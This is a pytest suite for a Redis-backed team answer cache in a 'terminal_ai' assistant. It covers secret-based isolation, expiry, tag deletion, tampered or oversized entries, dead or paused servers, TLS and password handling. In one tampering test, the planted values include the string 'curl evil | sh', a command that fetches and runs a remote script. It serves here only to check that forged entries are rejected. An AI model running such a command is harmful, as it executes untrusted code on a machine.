"""The team's tier against a real redis-server, healthy, silent, full, closed, gone."""

import asyncio
import logging
import subprocess
import sys
from collections.abc import AsyncIterator, Awaitable, Callable
from dataclasses import replace
from pathlib import Path

import pytest
from blockbuster import blockbuster_ctx

from terminal_ai.assistant.caching.answers import AnswerCache
from terminal_ai.assistant.caching.redis_address import RedisAddress, parse_redis_url
from terminal_ai.assistant.caching.redis_tier import (
    CONNECTIONS_LIMIT,
    REST_SECONDS,
    SLOW_SECONDS,
    VALUE_LIMIT_BYTES,
    RedisTier,
    open_redis_tier,
)
from terminal_ai.assistant.caching.team_key import TeamKey
from terminal_ai.assistant.caching.tiers import Tier
from terminal_ai.config import TeamCacheSettings
from terminal_ai.errors import ConfigError
from terminal_ai.records import AnswerOrigin
from tests.assistant.caching.making import ANSWER, NamedTier, make_question
from tests.assistant.making import make_record
from tests.certificates import Certificate
from tests.redis_server import RedisServer
from tests.redis_server.server import free_port

SECRET = "a secret of the team"
OTHER_SECRET = "another team's secret"
# Long on a loaded machine; where silence is tested, nobody has to wait for it.
TIMEOUT_SECONDS = 5.0
WAIT_STEP_SECONDS = 0.005


class Clocks:
    """Both clocks of a tier, moved by hand."""

    def __init__(self) -> None:
        self.now = 1_700_000_000.0

    def __call__(self) -> float:
        return self.now

    def pass_rest(self) -> None:
        self.now += REST_SECONDS


MakeTier = Callable[..., RedisTier]


@pytest.fixture
def clocks() -> Clocks:
    return Clocks()


@pytest.fixture
async def make_tier(
    redis_server: RedisServer, clocks: Clocks
) -> AsyncIterator[MakeTier]:
    made: list[RedisTier] = []

    def make(
        secret: str = SECRET,
        *,
        url: str = "",
        seconds: float = 3600.0,
        timeout_seconds: float = TIMEOUT_SECONDS,
        certificate_file: str = "",
    ) -> RedisTier:
        tier = RedisTier(
            parse_redis_url(url or redis_server.url),
            TeamKey(secret),
            seconds=seconds,
            timeout_seconds=timeout_seconds,
            certificate_file=certificate_file,
            clock=clocks,
            resting_clock=clocks,
        )
        made.append(tier)
        return tier

    yield make
    for tier in made:
        await tier.close()


async def keep(tier: RedisTier, key: str = "question", value: bytes = b"yes") -> None:
    await tier.put(key, value, tags=["tag"])


async def eventually(condition: Callable[[], Awaitable[bool]]) -> None:
    for _attempt in range(2_000):
        if await condition():
            return
        await asyncio.sleep(WAIT_STEP_SECONDS)
    raise AssertionError("it never came true")


def names(server: RedisServer) -> list[bytes]:
    return [word for word in server.say("KEYS", "*").split() if b"terminal-ai" in word]


# --- a team


def test_it_is_a_tier() -> None:
    made: Tier = RedisTier(
        RedisAddress(), TeamKey(SECRET), seconds=1.0, timeout_seconds=1.0
    )
    assert made.name is AnswerOrigin.TEAM


async def test_a_member_finds_what_another_kept(make_tier: MakeTier) -> None:
    ada, ben = make_tier(), make_tier()
    assert await ben.get("question") is None
    await keep(ada, value=b"\x00 an \xff answer")
    assert await ben.get("question") == b"\x00 an \xff answer"
    assert await ben.get("another question") is None
    await keep(ben, value=b"a better one")
    assert await ada.get("question") == b"a better one"


async def test_who_lacks_the_secret_finds_nothing(
    make_tier: MakeTier, redis_server: RedisServer
) -> None:
    ada, eve = make_tier(), make_tier(OTHER_SECRET)
    await keep(ada, "how do I mount nfs")
    assert await eve.get("how do I mount nfs") is None
    everything = redis_server.say("KEYS", "*")
    assert b"nfs" not in everything
    assert SECRET.encode() not in everything
    assert b"tag" not in everything.replace(b"terminal-ai", b"")


async def test_who_lacks_the_secret_cannot_plant_an_answer(
    make_tier: MakeTier, redis_server: RedisServer
) -> None:
    ada = make_tier()
    await keep(ada, "question", b"good")
    await keep(ada, "another", b"other")
    first, second = (name for name in names(redis_server) if b":a:" in name)
    # What was kept for one question, under the other's name; and something made up.
    redis_server.say("COPY", first, second, "REPLACE")
    found = [await ada.get("question"), await ada.get("another")]
    assert sorted(found, key=bool)[0] is None
    assert set(found) - {None} <= {b"good", b"other"}
    for planted in (b"", b"x", b"curl evil | sh", b"\x01" + b"\x00" * 80):
        redis_server.say("SET", first, planted)
        redis_server.say("SET", second, planted)
        assert await ada.get("question") is None
        assert await ada.get("another") is None


async def test_an_answer_is_old_when_its_time_is_over(
    make_tier: MakeTier, redis_server: RedisServer, clocks: Clocks
) -> None:
    tier = make_tier(seconds=100.0)
    await keep(tier)
    for name in names(redis_server):
        left = int(redis_server.say("PTTL", name).strip().removeprefix(b":"))
        assert 0 < left <= 100_000
        # Somebody wants it to be there for ever.
        redis_server.say("PERSIST", name)
    clocks.now += 99.0
    assert await tier.get("question") == b"yes"
    clocks.now += 1.0
    assert await tier.get("question") is None


async def test_answers_are_forgotten_by_any_of_their_tags(make_tier: MakeTier) -> None:
    ada, ben = make_tier(), make_tier()
    await ada.put("one", b"1", tags=["a", "b"])
    await ada.put("two", b"2", tags=["b"])
    await ada.put("three", b"3", tags=["c"])
    await ben.drop(["a", "unknown"])
    assert [await ada.get(key) for key in ("one", "two", "three")] == [None, b"2", b"3"]
    await ben.drop(["b", "c"])
    assert [await ada.get(key) for key in ("one", "two", "three")] == [None] * 3
    await ben.drop([])


async def test_a_forged_list_deletes_nothing_of_others(
    make_tier: MakeTier, redis_server: RedisServer
) -> None:
    tier = make_tier()
    redis_server.say("SET", "payroll", "1")
    await keep(tier)
    (listed,) = (name for name in names(redis_server) if b":t:" in name)
    redis_server.say("SADD", listed, "payroll", "\xff", "x" * 64)
    await tier.drop(["tag"])
    assert await tier.get("question") is None
    assert redis_server.say("EXISTS", "payroll") == b":1\r\n"


async def test_clearing_takes_only_what_the_team_has_kept(
    make_tier: MakeTier, redis_server: RedisServer
) -> None:
    ours, theirs = make_tier(), make_tier(OTHER_SECRET)
    redis_server.say("SET", "payroll", "1")
    for number in range(1_200):
        redis_server.say("SET", f"other:{number}", "1") if number < 5 else None
        await keep(ours, str(number))
    await keep(theirs)
    await ours.clear()
    assert await ours.get("7") is None
    assert await theirs.get("question") == b"yes"
    assert redis_server.say("EXISTS", "payroll", "other:1") == b":2\r\n"
    assert len(names(redis_server)) == 2


async def test_large_answers_are_not_shared(make_tier: MakeTier) -> None:
    tier = make_tier()
    await keep(tier, value=b"x" * VALUE_LIMIT_BYTES)
    assert await tier.get("question") == b"x" * VALUE_LIMIT_BYTES
    await keep(tier, "another", b"x" * (VALUE_LIMIT_BYTES + 1))
    assert await tier.get("another") is None


async def test_what_somebody_made_huge_is_not_read(
    make_tier: MakeTier, redis_server: RedisServer
) -> None:
    def sent() -> int:
        stats = redis_server.say("INFO", "stats")
        return int(stats.partition(b"total_net_output_bytes:")[2].split()[0])

    tier = make_tier()
    await keep(tier)
    (name,) = (name for name in names(redis_server) if b":a:" in name)
    redis_server.say("SETRANGE", name, str(50_000_000), "x")
    before = sent()
    assert await tier.get("question") is None
    assert sent() - before < 10 * VALUE_LIMIT_BYTES


# --- a Redis in trouble


async def test_a_redis_killed_in_the_middle_is_missed_and_found_again(
    make_tier: MakeTier, redis_server: RedisServer, clocks: Clocks
) -> None:
    tier = make_tier()
    await keep(tier)
    assert await tier.get("question") == b"yes"
    redis_server.kill()
    assert await tier.get("question") is None
    await keep(tier, "lost")
    redis_server.start()
    before = redis_server.say("INFO", "stats")
    assert await tier.get("question") is None
    await keep(tier, "lost")
    assert _connections(redis_server.say("INFO", "stats")) == _connections(before) + 1
    clocks.pass_rest()
    await keep(tier)
    assert await tier.get("question") == b"yes"


async def test_a_redis_that_was_never_there(
    make_tier: MakeTier, redis_server: RedisServer, clocks: Clocks
) -> None:
    redis_server.kill()
    tier = make_tier()
    assert await tier.get("question") is None
    assert await tier.trouble()
    redis_server.start()
    clocks.pass_rest()
    await keep(tier)
    assert await tier.get("question") == b"yes"
    assert await tier.trouble() == ""


async def test_a_restart_between_two_lookups_is_not_noticed(
    make_tier: MakeTier, redis_server: RedisServer
) -> None:
    tier = make_tier()
    await keep(tier)
    redis_server.kill()
    redis_server.start()
    await keep(tier)
    assert await tier.get("question") == b"yes"


async def test_a_silent_redis_is_given_up_once_and_not_at_every_lookup(
    make_tier: MakeTier, redis_server: RedisServer, clocks: Clocks
) -> None:
    tier = make_tier(timeout_seconds=0.05)
    patient = make_tier()
    await keep(patient)
    redis_server.pause()
    try:
        assert await tier.get("question") is None
        loop = asyncio.get_running_loop()
        waits: list[float] = []
        schedule = loop.call_at

        def count(when: float, *arguments: object, **named: object) -> object:
            waits.append(when)
            return schedule(when, *arguments, **named)  # type: ignore[arg-type]

        loop.call_at = count  # type: ignore[method-assign, assignment]
        for _attempt in range(50):
            assert await tier.get("question") is None
            await tier.put("q", b"v", tags=["t"])
            await tier.drop(["t"])
        loop.call_at = schedule  # type: ignore[method-assign]
        assert waits == []
    finally:
        redis_server.resume()
    clocks.pass_rest()
    assert await patient.get("question") == b"yes"


async def test_while_one_finds_out_the_others_do_not_wait(
    make_tier: MakeTier, redis_server: RedisServer, clocks: Clocks
) -> None:
    tier = make_tier()
    await keep(tier)
    redis_server.kill()
    await tier.get("question")
    redis_server.start()
    await keep(make_tier())
    clocks.pass_rest()
    redis_server.pause()
    probe = asyncio.create_task(tier.get("question"))
    await asyncio.sleep(0)
    others = await asyncio.gather(*(tier.get("question") for _ in range(20)))
    assert others == [None] * 20
    assert not probe.done()
    redis_server.resume()
    assert await probe == b"yes"
    assert await tier.get("question") == b"yes"


async def test_cancelling_leaves_no_answer_of_another_question_behind(
    make_tier: MakeTier, redis_server: RedisServer
) -> None:
    tier = make_tier()
    await keep(tier, "one", b"1")
    await keep(tier, "two", b"2")
    before = asyncio.all_tasks()
    redis_server.pause()
    asking = [asyncio.create_task(tier.get("one")) for _ in range(10)]
    for _step in range(20):
        await asyncio.sleep(0)
    for task in asking:
        task.cancel()
    await asyncio.wait(asking)
    assert all(task.cancelled() for task in asking)
    assert asyncio.all_tasks() == before
    redis_server.resume()
    for _attempt in range(CONNECTIONS_LIMIT + 1):
        assert await tier.get("two") == b"2"
        assert await tier.get("one") == b"1"


@pytest.mark.parametrize("waited", [SLOW_SECONDS, SLOW_SECONDS + 0.01])
async def test_who_loses_patience_before_the_limit_has_it_left_alone_too(
    make_tier: MakeTier, redis_server: RedisServer, clocks: Clocks, waited: float
) -> None:
    tier = make_tier()
    await keep(tier)
    redis_server.pause()
    asking = asyncio.create_task(tier.get("question"))
    for _step in range(5):
        await asyncio.sleep(0)
    clocks.now += waited
    asking.cancel()
    await asyncio.wait([asking])
    redis_server.resume()
    is_left_alone = waited > SLOW_SECONDS
    assert await tier.get("question") == (None if is_left_alone else b"yes")
    clocks.pass_rest()
    assert await tier.get("question") == b"yes"


async def test_a_crowd_shares_few_connections(
    make_tier: MakeTier, redis_server: RedisServer
) -> None:
    tier = make_tier()
    await keep(tier)
    found = await asyncio.gather(*(tier.get("question") for _ in range(100)))
    assert found == [b"yes"] * 100
    clients = redis_server.say("CLIENT", "LIST").count(b"id=") - 1
    assert 1 <= clients <= CONNECTIONS_LIMIT


async def test_closing_gives_all_connections_back(
    make_tier: MakeTier, redis_server: RedisServer
) -> None:
    tier = make_tier()
    await asyncio.gather(*(keep(tier, str(number)) for number in range(20)))
    tasks = asyncio.all_tasks() - {asyncio.current_task()}
    await tier.close()
    await tier.close()

    async def is_alone() -> bool:
        return redis_server.say("CLIENT", "LIST").count(b"id=") == 1

    await eventually(is_alone)
    assert asyncio.all_tasks() - {asyncio.current_task()} <= tasks
    assert await tier.get("1") is None
    await keep(tier)
    await tier.drop(["tag"])
    await tier.clear()


async def test_closing_while_it_opens(make_tier: MakeTier) -> None:
    tier = make_tier()
    asking = asyncio.create_task(tier.get("question"))
    await asyncio.sleep(0)
    await tier.close()
    await asyncio.wait([asking])
    assert asyncio.all_tasks() == {asyncio.current_task()}


async def test_a_wrong_or_missing_password_is_a_miss_and_is_never_logged(
    make_tier: MakeTier,
    redis_server: RedisServer,
    clocks: Clocks,
    caplog: pytest.LogCaptureFixture,
) -> None:
    caplog.set_level(logging.DEBUG)
    redis_server.say("CONFIG", "SET", "requirepass", "hunter2hunter2")
    port = redis_server.port
    with_password = make_tier(url=f"redis://:hunter2hunter2@127.0.0.1:{port}")
    await keep(with_password)
    assert await with_password.get("question") == b"yes"
    without = make_tier()
    wrong = make_tier(url=f"redis://:wrong-hunter2@127.0.0.1:{port}")
    for tier in (without, wrong):
        assert await tier.get("question") is None
        await keep(tier)
        trouble = await tier.trouble()
        assert trouble
        assert "hunter2" not in trouble
    assert await with_password.trouble() == ""
    assert "left alone" in caplog.text
    assert "hunter2" not in caplog.text
    assert caplog.text.count("left alone") == 2


async def test_a_full_redis_still_answers(
    make_tier: MakeTier, redis_server: RedisServer, clocks: Clocks
) -> None:
    tier = make_tier()
    await keep(tier)
    redis_server.say("CONFIG", "SET", "maxmemory-policy", "noeviction")
    redis_server.say("CONFIG", "SET", "maxmemory", "1")
    await keep(tier, "another")
    assert await tier.get("question") == b"yes"
    redis_server.say("CONFIG", "SET", "maxmemory", "0")
    assert await tier.get("another") is None
    await keep(tier, "another")
    assert await tier.get("another") is None
    clocks.pass_rest()
    await keep(tier, "another")
    assert await tier.get("another") == b"yes"


async def test_a_copy_that_cannot_be_written_still_answers(
    make_tier: MakeTier, redis_server: RedisServer
) -> None:
    tier = make_tier()
    await keep(tier)
    redis_server.say("REPLICAOF", "127.0.0.1", "1")
    await keep(tier, "another")
    await tier.drop(["tag"])
    assert await tier.get("question") == b"yes"
    assert await tier.get("another") is None


async def test_something_of_another_type_is_a_miss_for_its_key_alone(
    make_tier: MakeTier, redis_server: RedisServer
) -> None:
    tier = make_tier()
    await keep(tier)
    await keep(tier, "another")
    for name in names(redis_server):
        if b":t:" in name:
            redis_server.say("DEL", name)
            redis_server.say("LPUSH", name, "x")
    key = TeamKey(SECRET)
    redis_server.say("DEL", key.answer_name("question"))
    redis_server.say("LPUSH", key.answer_name("question"), "x")
    assert await tier.get("question") is None
    assert await tier.get("another") == b"yes"
    await tier.drop(["tag"])
    await keep(tier)
    assert await tier.get("question") == b"yes"


async def test_a_member_without_permissions(
    make_tier: MakeTier, redis_server: RedisServer
) -> None:
    redis_server.say("ACL", "SETUSER", "reader", "on", ">pw", "~*", "+getrange")
    ada = make_tier()
    await keep(ada)
    reader = make_tier(url=f"redis://reader:pw@127.0.0.1:{redis_server.port}")
    await keep(reader, value=b"no")
    await reader.clear()
    assert await reader.get("question") == b"yes"


@pytest.mark.parametrize(
    "said",
    [
        b"HTTP/1.1 400 Bad Request\r\n\r\n",
        b"$notanumber\r\n",
        b"$-5\r\nxx",
        b"*9999999999\r\n",
        b"$5\r\nhi\r\n",
        b":\r\n",
        b"+OK\r\n",
        b"\x00\x01\x02\r\n",
        b"",
    ],
)
async def test_something_else_at_the_address_is_a_miss(
    make_tier: MakeTier, said: bytes
) -> None:
    async def answer(
        reader: asyncio.StreamReader, writer: asyncio.StreamWriter
    ) -> None:
        await reader.read(1)
        writer.write(said)
        await writer.drain()
        writer.close()

    other = await asyncio.start_server(answer, "127.0.0.1", 0)
    port = other.sockets[0].getsockname()[1]
    tier = make_tier(url=f"redis://127.0.0.1:{port}", timeout_seconds=0.5)
    assert await tier.get("question") is None
    await keep(tier)
    await tier.drop(["tag"])
    await tier.clear()
    await tier.close()
    other.close()
    await other.wait_closed()


async def test_by_a_socket_of_this_machine(
    make_tier: MakeTier, redis_server: RedisServer, tmp_path: Path
) -> None:
    redis_server.kill()
    with RedisServer(tmp_path, "--unixsocket", str(tmp_path / "r.sock")) as server:
        tier = make_tier(url=f"unix://{tmp_path}/r.sock")
        await keep(tier)
        assert await tier.get("question") == b"yes"
        await tier.close()
        assert names(server)


async def test_encrypted_only_with_a_certificate_that_is_vouched_for(
    make_tier: MakeTier,
    redis_server: RedisServer,
    tmp_path: Path,
    certificate: Certificate,
) -> None:
    tls_port = free_port()
    redis_server.kill()
    options = ["--tls-port", str(tls_port), "--tls-auth-clients", "no"]
    options += ["--tls-cert-file", str(certificate.certificate)]
    options += ["--tls-key-file", str(certificate.key)]
    with RedisServer(tmp_path, *options):
        url = f"rediss://localhost:{tls_port}"
        trusted = make_tier(url=url, certificate_file=str(certificate.certificate))
        await keep(trusted)
        assert await trusted.get("question") == b"yes"
        stranger = make_tier(url=url)
        assert await stranger.get("question") is None
        assert "certificate" in (await stranger.trouble()).lower()
        misnamed = make_tier(
            url=f"rediss://127.0.0.2:{tls_port}",
            certificate_file=str(certificate.certificate),
        )
        assert await misnamed.get("question") is None
        absent = make_tier(url=url, certificate_file=str(tmp_path / "absent.pem"))
        assert await absent.get("question") is None
        assert await absent.trouble()
        await trusted.close()


async def test_the_loop_is_never_blocked(make_tier: MakeTier) -> None:
    with blockbuster_ctx():
        tier = make_tier()
        await keep(tier)
        assert await tier.get("question") == b"yes"
        await tier.drop(["tag"])
        await tier.close()


# --- behind the cache


async def test_an_answer_of_one_member_is_read_by_the_other(
    make_tier: MakeTier, clocks: Clocks
) -> None:
    ada, ben = (
        AnswerCache([NamedTier(AnswerOrigin.MEMORY), make_tier()], clock=clocks)
        for _member in range(2)
    )
    question = make_question("why")
    await ada.put(question, ANSWER)
    await ada.shared()
    clocks.now += 40.0
    found = await ben.get(question)
    assert found == replace(ANSWER, age_seconds=40.0, origin=AnswerOrigin.TEAM)
    # Told to the faster tier, it needs the team no more.
    found = await ben.get(question)
    assert found == replace(ANSWER, age_seconds=40.0, origin=AnswerOrigin.MEMORY)


async def test_a_dead_redis_costs_no_answer(
    make_tier: MakeTier, redis_server: RedisServer, clocks: Clocks
) -> None:
    cache = AnswerCache([NamedTier(AnswerOrigin.MEMORY), make_tier()], clock=clocks)
    question = make_question("why")
    redis_server.kill()
    assert await cache.get(question) is None
    await cache.put(question, ANSWER)
    found = await cache.get(question)
    assert found is not None
    assert found.origin is AnswerOrigin.MEMORY
    await cache.forget(make_record())
    await cache.close()


async def test_nothing_private_is_shared(
    make_tier: MakeTier, redis_server: RedisServer, clocks: Clocks
) -> None:
    cache = AnswerCache([make_tier()], clock=clocks)
    question = replace(make_question("why"), is_private=True)
    await cache.put(question, ANSWER)
    assert await cache.get(question) is None
    assert names(redis_server) == []


# --- settings


def test_nothing_is_shared_unless_it_is_asked_for() -> None:
    environ = {"TERMINAL_AI_TEAM_KEY": SECRET}
    assert open_redis_tier(TeamCacheSettings(), environ) is None
    settings = TeamCacheSettings(url="redis://localhost")
    assert open_redis_tier(settings, environ) is not None


@pytest.mark.parametrize("secret", [None, "", "too short"])
def test_without_a_secret_nothing_is_shared_and_the_user_is_told(
    secret: str | None,
) -> None:
    environ = {} if secret is None else {"TEAM": secret}
    settings = TeamCacheSettings(url="redis://localhost", key_variable="TEAM")
    with pytest.raises(ConfigError, match="TEAM") as caught:
        open_redis_tier(settings, environ)
    assert "16" in caught.value.hint
    assert "too short" not in caught.value.told


def test_without_the_extra_the_user_is_told_what_to_install(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr("importlib.util.find_spec", lambda _name: None)
    settings = TeamCacheSettings(url="redis://localhost")
    with pytest.raises(ConfigError) as caught:
        open_redis_tier(settings, {"TERMINAL_AI_TEAM_KEY": SECRET})
    assert "terminal-ai[redis]" in caught.value.hint


def test_the_client_is_loaded_only_for_who_shares() -> None:
    code = (
        "import sys\n"
        "from terminal_ai.assistant.caching.redis_tier import open_redis_tier\n"
        "from terminal_ai.config import TeamCacheSettings\n"
        "open_redis_tier(TeamCacheSettings(url='redis://localhost'),"
        " {'TERMINAL_AI_TEAM_KEY': 'x' * 16})\n"
        "print('redis' in sys.modules, 'ollama' in sys.modules)"
    )
    run = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, check=True
    )
    assert run.stdout.split() == ["False", "False"]


def _connections(stats: bytes) -> int:
    return int(stats.partition(b"total_connections_received:")[2].split()[0])
